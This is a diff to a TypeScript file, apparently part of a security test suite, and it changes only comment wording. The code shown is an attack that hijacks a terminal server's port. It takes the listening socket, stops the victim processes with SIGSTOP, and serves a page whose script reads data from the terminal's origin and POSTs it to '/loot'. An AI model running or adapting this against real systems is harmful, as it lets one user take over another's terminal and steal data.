@@ -1,6 +1,6 @@
-// What a visitor does to serve pages of their own at their terminal's port. Where the port is a Unix socket, as on a machine, they put
-// another one in its place. Elsewhere they take the listening socket from the terminal's server, stop the server, and answer instead:
-// it runs as their own user, so the kernel lets them, unless it is told otherwise (Yama, or a program that may not be read).
+// A visitor's attack that serves pages at the port of their terminal. On one machine the port is a Unix socket, which the attack
+// replaces. Elsewhere it takes the listening socket from the terminal's server, stops the server and answers instead. The server runs as
+// the same user, so the kernel allows this unless Yama or an unreadable program prevents it.
 
 import { deflateSync } from 'node:zlib';
 
@@ -89,7 +89,7 @@ for pid in victims: os.kill(pid, signal.SIGSTOP)
 for one in taken: threading.Thread(target=Server(one).serve_forever).start()
 `;
 
-// Reads what it can, does what it can to the page's origin, and tells its server.
+// Reads all it can of the page's origin, changes what it can, and reports to its server.
 const page = `<!doctype html><title>free terminals</title><script>
 (async () => {
   const { searchParams } = new URL(location.href);
@@ -134,7 +134,7 @@ const page = `<!doctype html><title>free terminals</title><script>
 })().catch((error) => fetch('/loot', { method: 'POST', body: String(error) }));
 </script>`;
 
-/** A command for the attacker's shell. The terminal's page hears no more of it, unless it has failed. */
+/** The attack as a shell command. The page gets no output from it, unless the attack fails. */
 export function takeOverPort(): string {
   const packed = deflateSync(
     script.replace('@page@', () => page),
